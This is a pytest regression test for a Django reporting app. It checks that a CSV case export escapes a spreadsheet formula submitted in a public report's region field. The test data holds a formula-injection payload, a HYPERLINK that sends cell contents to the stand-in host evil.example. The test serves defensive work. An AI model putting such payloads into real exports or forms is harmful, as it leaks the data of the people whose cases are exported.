"""#13.7: text typed by the public (a report's region) reached the organisation's case export unescaped."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils.http import urlencode

from kompass.screening.models import Report

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_a_formula_in_a_public_report_arrives_as_text_in_the_case_export(client, login, org_a):
    report = {
        "platform": "instagram",
        "concern": "sextortion",
        "subject": "child",
        "observations": "He asks for money or he sends my photos to the class.",
        "country": "RO",
        "region": FORMULA,
    }
    response = client.post(
        reverse("online:report"), urlencode(report), content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code == 302
    login(client, "coordinator")
    code = Report.objects.get().code
    client.post(reverse("screening:report_accept", args=[code]), {"organisation": org_a.pk})
    assert Report.objects.get().status == "accepted"
    login(client, "org_admin_a")
    export = client.get(reverse("cases:export"))
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
    cells = [value for row in rows for value in row.values()]
    assert "'" + FORMULA in cells
    assert not any(isinstance(v, str) and v[:1] in "=+-@" and "HYPERLINK" in v for v in cells)
